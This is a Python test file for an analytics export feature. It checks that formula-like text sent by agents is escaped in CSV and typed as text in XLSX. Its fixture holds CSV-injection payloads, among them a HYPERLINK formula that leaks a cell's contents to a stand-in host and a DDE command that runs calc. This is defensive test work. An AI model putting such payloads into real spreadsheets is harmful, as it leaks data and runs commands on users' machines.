"""Exports never hand a spreadsheet a formula an agent wrote: text that starts like one (=, +, -,
@, tab, carriage return) is escaped in CSV (an apostrophe in front) and typed as text in XLSX
(as it was sent); numbers stay numbers, negative ones too."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import httpx
import pytest
from openpyxl import load_workbook

from core import exports
from tests.conftest import make_key
from tests.runs.factories import run_payload

pytestmark = pytest.mark.django_db(transaction=True)

FORMULAS = {
    "input_summary": '=HYPERLINK("https://evil.example/?leak="&A1,"details")',
    "output_summary": "+1+2",
    "error_summary": "-2+3+cmd|' /C calc'!A0",
    "source_ref": "@SUM(1,2)",
}


def test_text_an_agent_sent_is_exported_as_text_never_as_a_formula(live_asgi, admin_client):
    key = make_key("alpha")[1]
    with httpx.Client(base_url=live_asgi, headers={"Authorization": f"Api-Key {key}"}) as api:
        assert api.post("/api/v1/runs", json=run_payload("alpha", items_failed=3, **FORMULAS)).status_code == 201

    exported = b"".join(admin_client.get("/analytics/export.csv").streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(exported))
    assert {field: row[field] for field in FORMULAS} == {field: "'" + text for field, text in FORMULAS.items()}
    assert row["items_failed"] == "3"

    workbook = load_workbook(io.BytesIO(b"".join(admin_client.get("/analytics/export.xlsx").streaming_content)))
    header, values = list(workbook["runs"].iter_rows(max_row=2))
    cells = {column.value: cell for column, cell in zip(header, values, strict=True)}
    assert {field: (cells[field].value, cells[field].data_type) for field in FORMULAS} == {
        field: (text, "s") for field, text in FORMULAS.items()
    }
    assert (cells["items_failed"].value, cells["items_failed"].data_type) == (3, "n")


def test_negative_numbers_stay_numbers_and_tab_and_carriage_return_are_escaped():
    columns = ["int", "decimal", "float", "tab", "return", "plain"]
    record = {"int": -3, "decimal": Decimal("-1.5"), "float": -0.25, "tab": "\t=1+1", "return": "\r=1+1", "plain": "a-b"}
    lines = "".join(exports.csv_lines(columns, [record]))
    assert list(csv.reader(io.StringIO(lines)))[1] == ["-3", "-1.5", "-0.25", "'\t=1+1", "'\r=1+1", "a-b"]

    out = io.BytesIO()
    exports.write_xlsx({"sheet": (columns, [record])}, out)
    (_, row) = load_workbook(io.BytesIO(out.getvalue()))["sheet"].iter_rows()
    assert [(cell.value, cell.data_type) for cell in row[:3]] == [(-3, "n"), (-1.5, "n"), (-0.25, "n")]
    assert (row[3].value, row[3].data_type) == ("\t=1+1", "s")
